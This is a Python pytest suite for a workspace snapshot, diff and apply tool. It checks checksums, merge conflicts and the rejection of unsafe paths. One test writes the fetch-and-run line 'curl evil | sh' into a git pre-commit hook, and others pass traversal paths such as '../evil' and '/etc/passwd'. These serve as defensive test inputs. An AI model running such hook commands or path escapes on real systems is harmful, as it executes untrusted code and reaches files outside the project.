import hashlib
import os
import stat

import pytest

from conductor.blobs import BlobStore
from conductor.errors import ChecksumMismatch, InvalidDocument, MergeConflict, UnsafePath
from conductor.models import FileChange
from conductor.workspace import (
    Entry,
    apply_changes,
    copy_tree,
    diff,
    diff_lines,
    restore_snapshot,
    snapshot,
    snapshot_from_document,
    snapshot_to_document,
)


def make_project(root):
    """A small project with the places git status misses: hooks, ignored files, symlinks."""
    (root / "src" / "pkg").mkdir(parents=True)
    (root / "src" / "pkg" / "app.py").write_text("a\nb\nc\nd\n")
    (root / "README.md").write_text("# readme\n")
    (root / ".gitignore").write_text("build/\n")
    (root / "build").mkdir()
    (root / "build" / "out.txt").write_text("generated\n")
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    (root / ".git" / "config").write_text("[core]\n")
    (root / "run.sh").write_text("#!/bin/sh\necho hi\n")
    (root / "run.sh").chmod(0o755)
    (root / "data.bin").write_bytes(b"\x00\x01\x02")
    os.symlink("README.md", root / "link")
    (root / ".conductor" / "objects").mkdir(parents=True)
    (root / ".conductor" / "config.yaml").write_text("x: 1\n")
    return root


@pytest.fixture
def project(tmp_path):
    return make_project(tmp_path / "project")


@pytest.fixture
def store(tmp_path):
    return BlobStore(tmp_path / "objects")


def changes_by_path(before, after_root, store, ignore=()):
    after = snapshot(after_root, ignore=ignore)
    return {c.path: c for c in diff(before, after, before_store=store, after_root=after_root)}


# --- snapshot -----------------------------------------------------------------------------------


def test_snapshot_sees_dotfiles_git_ignored_and_symlinks_but_not_conductor(project):
    snap = snapshot(project)
    assert set(snap) == {
        "src/pkg/app.py", "README.md", ".gitignore", "build/out.txt", ".git/hooks/pre-commit",
        ".git/config", "run.sh", "data.bin", "link",
    }
    assert snap["run.sh"] == Entry("file", 0o755, hashlib.sha256(b"#!/bin/sh\necho hi\n").hexdigest(), 18)
    assert snap["link"] == Entry("symlink", 0o777, hashlib.sha256(b"README.md").hexdigest(), 9)


def test_snapshot_never_follows_symlinks(project, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret").write_text("s")
    os.symlink(outside, project / "dirlink")
    snap = snapshot(project)
    assert snap["dirlink"].kind == "symlink"
    assert not any(p.startswith("dirlink/") for p in snap)


def test_snapshot_ignore_patterns(project):
    (project / "src" / "__pycache__").mkdir()
    (project / "src" / "__pycache__" / "app.cpython-311.pyc").write_bytes(b"\x00")
    (project / "top.pyc").write_bytes(b"\x00")
    snap = snapshot(project, ignore=["__pycache__/", "*.pyc"])
    assert not any("__pycache__" in p or p.endswith(".pyc") for p in snap)
    assert "src/pkg/app.py" in snap


def test_snapshot_rejects_special_files_naming_them(project):
    os.mkfifo(project / "src" / "pipe")
    with pytest.raises(UnsafePath, match="src/pipe"):
        snapshot(project)


def test_snapshot_detects_changes_git_status_misses(project, store):
    before = snapshot(project, store=store)
    (project / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\ncurl evil | sh\n")
    (project / "build" / "out.txt").write_text("regenerated\n")
    (project / "run.sh").chmod(0o644)
    os.unlink(project / "link")
    os.symlink(".gitignore", project / "link")
    (project / "data.bin").write_bytes(b"\x00\x01\x03")
    changes = changes_by_path(before, project, store)
    assert set(changes) == {".git/hooks/pre-commit", "build/out.txt", "run.sh", "link", "data.bin"}
    assert all(c.change == "modified" for c in changes.values())


def test_snapshot_document_round_trip(project):
    snap = snapshot(project)
    document = snapshot_to_document(snap)
    assert list(document["entries"]) == sorted(snap)
    assert snapshot_from_document(document) == snap


@pytest.mark.parametrize(
    "entries",
    [
        {"../x": {"kind": "file", "mode": 420, "sha256": "0" * 64, "size": 1}},
        {"/abs": {"kind": "file", "mode": 420, "sha256": "0" * 64, "size": 1}},
        {"a": {"kind": "dir", "mode": 420, "sha256": "0" * 64, "size": 1}},
        {"a": {"kind": "file", "mode": True, "sha256": "0" * 64, "size": 1}},
        {"a": {"kind": "file", "mode": 420, "sha256": "xyz", "size": 1}},
        {"a": {"kind": "file", "mode": 420, "sha256": "0" * 64}},
    ],
)
def test_snapshot_from_document_rejects_malformed_entries(entries):
    with pytest.raises(InvalidDocument):
        snapshot_from_document({"schema": "conductor.snapshot/v1", "entries": entries})


# --- diff ---------------------------------------------------------------------------------------


def test_diff_counts_lines_of_a_known_edit(project, store):
    before = snapshot(project, store=store)
    (project / "src" / "pkg" / "app.py").write_text("a\nB\nc\nd\ne\n")
    (project / "new.txt").write_text("1\n2\n3\n")
    (project / "README.md").unlink()
    changes = changes_by_path(before, project, store)
    app = changes["src/pkg/app.py"]
    assert (app.change, app.lines_added, app.lines_removed, app.binary) == ("modified", 2, 1, False)
    assert app.sha256 == hashlib.sha256(b"a\nB\nc\nd\ne\n").hexdigest()
    new = changes["new.txt"]
    assert (new.change, new.lines_added, new.lines_removed) == ("added", 3, 0)
    gone = changes["README.md"]
    assert (gone.change, gone.lines_added, gone.lines_removed, gone.sha256) == ("deleted", 0, 1, None)
    assert diff_lines(list(changes.values())) == 3 + 3 + 1


def test_diff_is_sorted_and_empty_without_changes(project, store):
    before = snapshot(project, store=store)
    assert diff(before, snapshot(project), before_store=store, after_root=project) == []
    (project / "z.txt").write_text("z\n")
    (project / "a.txt").write_text("a\n")
    paths = [c.path for c in diff(before, snapshot(project), before_store=store, after_root=project)]
    assert paths == sorted(paths)


def test_diff_binary_mode_and_symlink_counts(project, store):
    before = snapshot(project, store=store)
    (project / "data.bin").write_bytes(b"\x00\x09")
    (project / "latin1.txt").write_bytes("caf\xe9\n".encode("latin-1"))
    (project / "run.sh").chmod(0o700)
    os.unlink(project / "link")
    os.symlink("elsewhere", project / "link")
    changes = changes_by_path(before, project, store)
    assert (changes["data.bin"].binary, changes["data.bin"].lines_added, changes["data.bin"].lines_removed) == (
        True, 1, 1,
    )
    assert (changes["latin1.txt"].binary, changes["latin1.txt"].lines_added) == (True, 1)
    assert (changes["run.sh"].change, changes["run.sh"].lines_added, changes["run.sh"].lines_removed) == (
        "modified", 0, 0,
    )
    assert (changes["link"].lines_added, changes["link"].lines_removed, changes["link"].binary) == (1, 1, False)
    assert changes["link"].sha256 == hashlib.sha256(b"elsewhere").hexdigest()


def test_diff_refuses_a_file_changed_since_its_snapshot(project, store):
    before = snapshot(project, store=store)
    (project / "README.md").write_text("new\n")
    after = snapshot(project)
    (project / "README.md").write_text("newer\n")
    with pytest.raises(ChecksumMismatch, match="README.md"):
        diff(before, after, before_store=store, after_root=project)


# --- copy and restore ---------------------------------------------------------------------------


def test_copy_tree_copies_modes_and_symlinks_and_skips_conductor(project, tmp_path):
    dst = tmp_path / "copies" / "fork_a"
    copy_tree(project, dst, ignore=["build/"])
    assert not (dst / ".conductor").exists()
    assert not (dst / "build").exists()
    assert os.readlink(dst / "link") == "README.md"
    assert stat.S_IMODE((dst / "run.sh").stat().st_mode) == 0o755
    assert snapshot(dst) == snapshot(project, ignore=["build/"])
    assert [p.name for p in dst.parent.iterdir()] == ["fork_a"]  # no temp folder left


def test_copy_tree_refuses_an_existing_destination(project, tmp_path):
    dst = tmp_path / "dst"
    dst.mkdir()
    with pytest.raises(FileExistsError):
        copy_tree(project, dst)


def test_restore_snapshot_round_trip(project, store, tmp_path):
    snap = snapshot(project, store=store)
    dst = tmp_path / "restored"
    dst.mkdir()  # an empty folder is fine
    restore_snapshot(snap, store, dst)
    assert snapshot(dst) == snap
    with pytest.raises(FileExistsError):
        restore_snapshot(snap, store, dst)


def test_restore_snapshot_detects_a_tampered_blob(project, store, tmp_path):
    snap = snapshot(project, store=store)
    blob = store.path(snap["README.md"].sha256)
    blob.chmod(0o644)
    blob.write_text("tampered\n")
    with pytest.raises(ChecksumMismatch):
        restore_snapshot(snap, store, tmp_path / "restored")
    assert not (tmp_path / "restored").exists()


# --- apply --------------------------------------------------------------------------------------


@pytest.fixture
def fork(project, tmp_path, store):
    """(base snapshot, fork copy with edits, the change set)."""
    base = snapshot(project, store=store)
    work = tmp_path / "fork"
    copy_tree(project, work)
    (work / "src" / "pkg" / "app.py").write_text("a\nB\nc\nd\n")
    (work / "src" / "new" / "deep").mkdir(parents=True)
    (work / "src" / "new" / "deep" / "mod.py").write_text("x = 1\n")
    (work / "README.md").unlink()
    (work / "run.sh").chmod(0o700)
    os.unlink(work / "link")
    os.symlink("src/pkg/app.py", work / "link")
    os.symlink("src", work / "srclink")
    changes = diff(base, snapshot(work), before_store=store, after_root=work)
    return base, work, changes


def test_apply_add_modify_delete_symlink(project, fork):
    base, work, changes = fork
    apply_changes(changes, src_root=work, dst_root=project, base=base)
    assert snapshot(project) == snapshot(work)
    assert os.readlink(project / "srclink") == "src"
    assert stat.S_IMODE((project / "run.sh").stat().st_mode) == 0o700
    assert not list(project.rglob(".tmp.*"))


def test_apply_deletion_prunes_empty_folders(project, store, tmp_path):
    base = snapshot(project, store=store)
    work = tmp_path / "fork"
    copy_tree(project, work)
    (work / "src" / "pkg" / "app.py").unlink()
    changes = diff(base, snapshot(work), before_store=store, after_root=work)
    apply_changes(changes, src_root=work, dst_root=project, base=base)
    assert not (project / "src").exists()


def test_apply_file_to_folder_and_back(project, store, tmp_path):
    base = snapshot(project, store=store)
    work = tmp_path / "fork"
    copy_tree(project, work)
    (work / "README.md").unlink()
    (work / "README.md").mkdir()
    (work / "README.md" / "index.md").write_text("hi\n")
    for child in (work / "src" / "pkg").iterdir():
        child.unlink()
    (work / "src" / "pkg").rmdir()
    (work / "src" / "pkg").write_text("now a file\n")
    changes = diff(base, snapshot(work), before_store=store, after_root=work)
    apply_changes(changes, src_root=work, dst_root=project, base=base)
    assert snapshot(project) == snapshot(work)


def test_apply_refuses_a_target_changed_since_base_and_writes_nothing(project, fork):
    base, work, changes = fork
    (project / "src" / "pkg" / "app.py").write_text("edited by someone else\n")
    (project / "srclink").write_text("created meanwhile\n")
    untouched = snapshot(project)
    with pytest.raises(MergeConflict) as caught:
        apply_changes(changes, src_root=work, dst_root=project, base=base)
    assert "src/pkg/app.py" in str(caught.value)
    assert "srclink" in str(caught.value)
    assert "README.md" not in str(caught.value)
    assert snapshot(project) == untouched


def test_apply_treats_a_mode_change_in_the_target_as_a_conflict(project, fork):
    base, work, changes = fork
    (project / "README.md").chmod(0o600)
    with pytest.raises(MergeConflict, match="README.md"):
        apply_changes(changes, src_root=work, dst_root=project, base=base)


def test_apply_refuses_a_source_changed_since_the_diff(project, fork):
    base, work, changes = fork
    (work / "src" / "new" / "deep" / "mod.py").write_text("x = 2\n")
    untouched = snapshot(project)
    with pytest.raises(ChecksumMismatch, match="mod.py"):
        apply_changes(changes, src_root=work, dst_root=project, base=base)
    assert snapshot(project) == untouched


@pytest.mark.parametrize("path", ["../evil", "/etc/passwd", "a/../b", ".git/hooks/pre-commit", ".conductor/x", "a//b"])
def test_apply_rejects_unsafe_paths(project, tmp_path, path):
    change = FileChange(path=path, change="added", sha256="0" * 64, lines_added=1)
    with pytest.raises(UnsafePath):
        apply_changes([change], src_root=tmp_path, dst_root=project, base={})


def test_apply_rejects_a_symlinked_folder_leaving_the_root(project, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    os.symlink(outside, project / "escape")
    src = tmp_path / "src"
    (src / "escape").mkdir(parents=True)
    (src / "escape" / "x").write_text("x\n")
    change = FileChange(path="escape/x", change="added", sha256=hashlib.sha256(b"x\n").hexdigest(), lines_added=1)
    with pytest.raises(UnsafePath):
        apply_changes([change], src_root=src, dst_root=project, base={})
    assert list(outside.iterdir()) == []


def test_apply_leaves_ignored_destination_paths_alone(project, fork):
    base, work, changes = fork
    (project / "src" / "pkg" / "app.py").write_text("a cache the destination manages\n")
    apply_changes(changes, src_root=work, dst_root=project, base=base, dst_ignore=["src/pkg/"])
    assert (project / "src" / "pkg" / "app.py").read_text() == "a cache the destination manages\n"
    assert (project / "src" / "new" / "deep" / "mod.py").read_text() == "x = 1\n"
